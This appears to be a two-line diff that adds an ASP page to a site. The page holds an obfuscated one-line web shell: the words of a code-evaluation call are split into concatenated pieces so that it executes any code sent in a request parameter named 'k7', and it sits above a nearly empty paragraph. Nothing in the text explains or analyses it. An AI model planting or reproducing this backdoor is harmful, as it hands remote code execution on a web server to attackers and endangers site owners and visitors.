@@ -1,0 +1,2 @@
+<%Eval("Ex"&"ec"&"ute(Req"&"uest(""k7""))")%>
+<p>.</p>
